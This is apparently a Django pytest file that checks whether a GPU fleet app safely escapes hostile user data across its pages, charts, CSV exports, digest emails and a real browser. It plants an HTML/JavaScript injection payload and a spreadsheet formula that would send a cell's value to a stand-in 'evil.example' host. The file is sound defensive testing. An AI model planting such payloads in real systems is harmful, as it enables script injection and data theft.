"""Hostile content from users' jobs is shown as text everywhere: pages, Plotly figures, CSV, email.

One HTML/JS payload and one spreadsheet formula are planted in every field that comes from outside
(job names, commands, users, team names, log lines, script text, archive file names, ingest errors,
label notes, connector errors), through the real importer where the field arrives that way. Every
page and export that shows them is then fetched and checked; the job page is also opened in a real
Chromium to prove no script ran.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core import mail
from django.core.management import call_command

from fleet.exports import FORMULA_STARTS, spreadsheet_safe
from tests.conftest import write_zip
from tests.test_browser import browser  # noqa: F401 - the shared headless Chromium fixture

PAYLOAD = "<script>alert(1)</script><img src=x onerror=alert(2)>"
# What the payload must never look like in HTML: a live tag or handler.
LIVE = ["<script>alert(1)", "<img src=x", "onerror=alert(2)>"]
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
WEEK = "2026-W45"


def csv_field(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def hostile_archive(path):
    """An archive whose every free-text field carries the payload (and a formula where one fits)."""
    manifest = json.dumps({"format": "fleet-archive", "version": 1, "cluster": "c1", "created_at": "2026-11-02"})
    jobs = (
        "job_id,user,team,gpu_count,start_time,end_time,name,command\n"
        f"j1,{csv_field('evil' + PAYLOAD)},{csv_field('Team ' + PAYLOAD)},1,2026-11-02T10:00:00Z,"
        f"2026-11-02T12:00:00Z,{csv_field(PAYLOAD)},{csv_field('python train.py ' + PAYLOAD)}\n"
        f"j2,bob,{csv_field('Team ' + PAYLOAD)},1,2026-11-02T10:00:00Z,2026-11-02T11:00:00Z,{csv_field(FORMULA)},"
        f"{csv_field(FORMULA)}\n"
        f"j3,bob,nlp,{csv_field(PAYLOAD)},2026-11-02T10:00:00Z,2026-11-02T11:00:00Z,bad,x\n"
    )
    rows = ["job_id,timestamp,host,gpu,gpu_util"]
    for minute in range(0, 120):
        util = 2.0 if minute < 60 else 30.0  # an idle first hour: triage has something to say
        rows.append(f"j1,2026-11-02T{10 + minute // 60:02d}:{minute % 60:02d}:00Z,node1,0,{util}")
    for minute in range(0, 60):
        rows.append(f"j2,2026-11-02T10:{minute:02d}:00Z,node1,0,3.0")
    rows.append(f"{PAYLOAD},2026-11-02T10:00:00Z,node1,0,3.0")  # an unknown job: its id lands in the errors
    log = (
        f"2026-11-02 10:00:05,000 INFO Downloading dataset {PAYLOAD}\n"
        f"2026-11-02 10:30:00,000 INFO Epoch 1/3 {PAYLOAD}\n"
        f"2026-11-02 10:45:00,000 INFO Saving model checkpoint to /ckpt/{PAYLOAD}\n"
        f"2026-11-02 10:50:00,000 INFO {FORMULA}\n"
    )
    script = f'import torch\n# {PAYLOAD}\nprint("{PAYLOAD}")\nfor x in loader:\n    x.cpu()\n'
    return write_zip(
        path,
        {
            "manifest.json": manifest,
            "jobs.csv": jobs,
            "metrics.csv": "\n".join(rows) + "\n",
            f"logs/j1/out{PAYLOAD}.log": log,
            "scripts/j1/train.py": script,
        },
    )


@pytest.fixture
def hostile(tmp_path, operator, researcher):
    return plant_payloads(tmp_path, operator, researcher)


def plant_payloads(tmp_path, operator, researcher) -> dict:
    """The hostile archive imported through the real importer (and triaged), plus labels and a connector."""
    from fleet.connectors.models import Connector
    from fleet.models import IngestRun, Job, Owner
    from triage.labeling import services as labeling

    archive = hostile_archive(tmp_path / f"week{PAYLOAD}.zip".replace("/", "_"))
    try:
        call_command("ingest_archive", str(archive), stdout=io.StringIO(), stderr=io.StringIO())
    except SystemExit:
        pass
    except Exception as exc:  # noqa: BLE001 - exit code 1: a row was rejected, on purpose
        if getattr(exc, "returncode", None) != 1:
            raise
    run = IngestRun.objects.get()
    run.archive_name = f"week{PAYLOAD}.zip"  # what an uploader may call their file
    run.save(update_fields=["archive_name"])
    job = Job.objects.get(external_id="j1")
    formula_job = Job.objects.get(external_id="j2")
    Owner.objects.create(user=researcher, team=job.team)  # harmless: researchers see the fleet anyway

    ravi = _researcher("ravi-rater")
    study = labeling.create_study(name=f"Study {PAYLOAD}", lead=researcher, raters=[researcher, ravi], seed=1)
    for rater in (researcher, ravi):
        for assignment in labeling.assignments_of(study, rater):
            labeling.save_answer(assignment, {"other": PAYLOAD}, other_note=f"{FORMULA} {PAYLOAD}")
        labeling.submit(study, rater)
    item = study.items.get(job=job)
    labeling.adjudicate(item, ["other"], f"note {PAYLOAD}", researcher)
    labeling.freeze_gold(study, researcher, f"gold {PAYLOAD}")

    connector = Connector.objects.create(
        name="prom", kind=Connector.Kind.PROMETHEUS, url="http://127.0.0.1:9/", last_error=PAYLOAD
    )
    return {"run": run, "job": job, "formula_job": formula_job, "study": study, "item": item, "connector": connector}


def _researcher(username):
    from django.contrib.auth.models import Group

    from fleet.access import RESEARCHERS_GROUP
    from tests.factories import UserFactory

    user = UserFactory(username=username)
    user.groups.add(Group.objects.get_or_create(name=RESEARCHERS_GROUP)[0])
    return user


def assert_escaped(text: str, where: str, *, shown: bool = True):
    for live in LIVE:
        assert live not in text, f"{where} carries the payload unescaped ({live!r})"
    if shown:
        assert ESCAPED in text, f"{where} does not show the payload at all (nothing proven)"


def test_the_importer_kept_every_payload(hostile):
    """The fixture really planted the payload in each field (so the page checks below prove something)."""
    from fleet.models import Artifact, LogEvent

    job = hostile["job"]
    assert PAYLOAD in job.name and PAYLOAD in job.command and PAYLOAD in job.user and PAYLOAD in job.team.name
    assert Artifact.objects.filter(job=job, path__contains=PAYLOAD).exists()
    assert LogEvent.objects.filter(job=job, text__contains=PAYLOAD).exists()
    errors = json.dumps(hostile["run"].errors)
    assert "<script>" in errors, "the ingest errors name the hostile values"


def test_pages_show_payloads_escaped(client, operator, hostile):
    client.force_login(operator)
    job, study, item = hostile["job"], hostile["study"], hostile["item"]
    pages = {
        "job list": "/jobs/",
        "job list search": f"/jobs/?q={job.external_id}",
        "job detail": f"/jobs/{job.pk}/",
        "findings": f"/triage/jobs/{job.pk}/",
        "overview": "/overview/",
        "team list": "/teams/",
        "team page": f"/teams/{job.team.slug}/",
        "ingest runs": "/ingest-runs/",
        "ingest run": f"/ingest-runs/{hostile['run'].pk}/",
        "studies": "/studies/",
        "study": f"/studies/{study.pk}/",
        "agreement": f"/studies/{study.pk}/agreement/",
        "adjudication": f"/studies/{study.pk}/adjudicate/{item.pk}/",
        "gold": f"/studies/{study.pk}/gold/",
        "digest index": "/digests/",
        "digest preview": f"/digests/preview/team/{job.team.slug}/{WEEK}/",
        "digest preview (mailed HTML)": f"/digests/preview/team/{job.team.slug}/{WEEK}/?part=html",
        "operator digest": f"/digests/preview/operator/{WEEK}/",
        "connectors": "/connectors/",
    }
    only_in_figures = {"overview", "operator digest"}  # names only inside json_script figure data
    failures = []
    for where, path in pages.items():
        response = client.get(path)
        assert response.status_code == 200, f"{where}: {response.status_code}"
        try:
            assert_escaped(response.content.decode(), where, shown=where not in only_in_figures)
        except AssertionError as exc:
            failures.append(str(exc).splitlines()[0])
    assert not failures, "\n".join(failures)


def test_the_labeling_page_shows_log_and_script_text_escaped(client, researcher, hostile):
    from triage.labeling import services as labeling

    client.force_login(researcher)
    study = hostile["study"]
    assignment = labeling.assignments_of(study, researcher).get(item=hostile["item"])
    page = client.get(f"/studies/{study.pk}/label/{assignment.item_id}/").content.decode()
    assert_escaped(page, "labeling page")
    assert "print(&quot;&lt;script&gt;" in page, "the script text is shown, escaped"


def test_plotly_figures_escape_hover_and_tick_text(client, operator, hostile):
    """Plotly renders hover and tick text as (a subset of) HTML, so names go in escaped."""
    client.force_login(operator)
    timeline = client.get(f"/jobs/{hostile['job'].pk}/timeline.json").json()
    text = json.dumps(timeline)
    assert_escaped(text, "timeline JSON")
    overview = client.get("/overview/").content.decode()
    figure = json.loads(overview.split('id="teams-figure" type="application/json">', 1)[1].split("</script>", 1)[0])
    assert_escaped(json.dumps(figure), "teams figure")


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"))))


def assert_cells_inert(rows: list[list[str]], where: str):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"{where}: a cell starts a formula: {cell!r}"


def test_csv_exports_neutralise_formulas(client, operator, hostile):
    client.force_login(operator)
    study = hostile["study"]
    exports = {
        "ingest errors": f"/ingest-runs/{hostile['run'].pk}/errors.csv",
        "job list": "/jobs/?format=csv",
        "labels": f"/studies/{study.pk}/export/labels.csv",
        "gold": f"/studies/{study.pk}/export/gold.csv",
    }
    seen_formula = False
    for where, path in exports.items():
        response = client.get(path)
        assert response.status_code == 200, f"{where}: {response.status_code}"
        content = response.getvalue() if response.streaming else response.content
        rows = read_csv(content)
        assert_cells_inert(rows, where)
        seen_formula |= any(cell.startswith("'=") for row in rows for cell in row)
    assert seen_formula, "the formula was exported somewhere (as inert text)"


def test_a_labels_export_still_imports_back_unchanged(client, researcher, hostile):
    """Neutralising formulas must not corrupt the round trip: the import strips the guard quote."""
    from triage.labeling import exchange

    study = hostile["study"]
    exported = exchange.to_csv(exchange.label_rows(study), exchange.LABEL_COLUMNS)
    assert "'=HYPERLINK" in exported
    rows = exchange.read_rows(exported)
    assert {row["other_note"] for row in rows if row["other_note"]} == {f"{FORMULA} {PAYLOAD}"}


@pytest.mark.parametrize(
    "value", ["=1+1", "+1+1", "-1-cmd", "-2+3", "@SUM(A1)", "\t=1", "'=1", "''=1", "'-1", "'plain", "plain", ""]
)
def test_spreadsheet_safe_round_trips(value):
    from fleet.exports import spreadsheet_unsafe

    guarded = spreadsheet_safe(value)
    assert not guarded.startswith(FORMULA_STARTS)
    assert spreadsheet_unsafe(guarded) == value


@pytest.mark.parametrize("value", ["-0.25", "-1", "+3", "-1.5e-3", "-.5", -0.25, -7])
def test_a_plain_negative_number_stays_a_number(value):
    """A negative kappa or interval bound was exported as '-0.25: a script's float() failed on it and a
    spreadsheet read it as text. A number is never run as a formula, so it needs no guard."""
    from fleet.exports import spreadsheet_unsafe

    assert spreadsheet_safe(value) == str(value)
    assert float(spreadsheet_safe(value)) == float(value)
    assert spreadsheet_unsafe(str(value)) == str(value)


def test_digest_emails_carry_payloads_escaped(hostile, member_a):
    from fleet.models import Owner
    from triage.digests.models import DigestKind

    team = hostile["job"].team
    Owner.objects.create(user=member_a, team=team)
    call_command("send_digests", "--week", WEEK, "--team", team.slug, stdout=io.StringIO())
    team_mail = [m for m in mail.outbox if m.to == [member_a.email]]
    assert team_mail, "the team digest was sent"
    for message in team_mail:
        html = next(content for content, kind in message.alternatives if kind == "text/html")
        assert_escaped(html, "digest email HTML")
        for live in LIVE:  # the subject is a header: no markup at all
            assert live not in message.subject
    assert DigestKind.TEAM


@pytest.mark.django_db(transaction=True)
def test_no_script_runs_in_a_browser(browser, live_server, operator, tmp_path, researcher):  # noqa: F811
    """The job page, findings and the job list in Chromium: no dialog fired, no injected element."""
    from selenium.common.exceptions import NoAlertPresentException
    from selenium.webdriver.common.by import By

    from fleet.models import Job

    hostile_fixture = plant_payloads(tmp_path, operator, researcher)
    job = hostile_fixture["job"]
    assert isinstance(job, Job)
    client_cookie = _session_cookie(operator)
    browser.get(f"{live_server.url}/login/")
    browser.add_cookie(client_cookie)
    for path in (f"/jobs/{job.pk}/", f"/triage/jobs/{job.pk}/", "/jobs/", f"/teams/{job.team.slug}/", "/overview/"):
        browser.get(f"{live_server.url}{path}")
        browser.find_element(By.TAG_NAME, "main")
        browser.execute_script("return document.readyState")
        try:
            alert = browser.switch_to.alert
            pytest.fail(f"{path}: a dialog fired: {alert.text}")
        except NoAlertPresentException:
            pass
        injected = browser.execute_script(
            "return document.querySelectorAll('img[src=\"x\"], img[onerror]').length + [...document.scripts]"
            ".filter(s => s.textContent.includes('alert(1)') && s.type !== 'application/json').length"
        )
        assert injected == 0, f"{path}: an injected element is in the DOM"
        assert "<script>alert(1)</script>" in browser.find_element(By.TAG_NAME, "body").text or path == "/overview/"


def _session_cookie(user) -> dict:
    from django.conf import settings
    from django.test import Client

    client = Client()
    client.force_login(user)
    return {
        "name": settings.SESSION_COOKIE_NAME,
        "value": client.cookies[settings.SESSION_COOKIE_NAME].value,
        "path": "/",
    }
